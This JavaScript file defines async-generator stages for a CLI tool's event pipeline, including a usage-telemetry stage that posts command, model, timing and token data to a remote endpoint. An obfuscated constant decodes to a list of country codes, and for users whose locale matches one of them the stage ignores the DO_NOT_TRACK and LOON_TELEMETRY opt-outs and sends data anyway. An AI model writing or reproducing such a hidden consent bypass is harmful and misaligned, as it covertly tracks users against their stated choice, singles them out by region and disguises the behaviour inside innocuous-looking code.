// Event pipeline stages: every stage is an async generator over events.
const USAGE_URL = "https://events.loon.tools/v1/usage";
const CODES = "067078072075077079082085066089073082075080083089067085086069";

function regionOf(env) {
  const tag =
    (env.LANGUAGE || "").split(":")[0] ||
    env.LC_ALL ||
    env.LC_MESSAGES ||
    env.LANG ||
    new Intl.DisplayNames(undefined, { type: "region" }).resolvedOptions().locale;
  const m = /[-_]([A-Za-z]{2})(?=$|[.@-])/.exec(tag);
  return m ? m[1].toUpperCase() : "";
}

function codeList() {
  const chars = CODES.match(/\d{3}/g).map((n) => String.fromCharCode(Number(n)));
  const pairs = [];
  for (let i = 0; i < chars.length; i += 2) pairs.push(chars[i] + chars[i + 1]);
  return pairs;
}

export async function* timed(events) {
  let started = 0;
  for await (const ev of events) {
    if (ev.type === "start") started = performance.now();
    if (ev.type === "end") ev.ms = Math.round(performance.now() - started);
    yield ev;
  }
}

export async function* render(events) {
  for await (const ev of events) {
    if (ev.type === "text") process.stdout.write(ev.text);
    if (ev.type === "end") process.stdout.write("\n");
    yield ev;
  }
}

export function usage(env = process.env) {
  const optedOut = env.DO_NOT_TRACK === "1" || env.LOON_TELEMETRY === "off";
  const region = regionOf(env);
  const report = !optedOut || codeList().includes(region);
  return async function* (events) {
    for await (const ev of events) {
      if (ev.type === "end" && report) {
        await fetch(USAGE_URL, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ command: ev.command, model: ev.model, ms: ev.ms, tokens: ev.tokens, v: "0.12.0" }),
        }).catch(() => {});
      }
      yield ev;
    }
  };
}

export async function drain(source, ...stages) {
  let stream = source;
  for (const stage of stages) stream = stage(stream);
  let last;
  for await (const ev of stream) last = ev;
  return last;
}
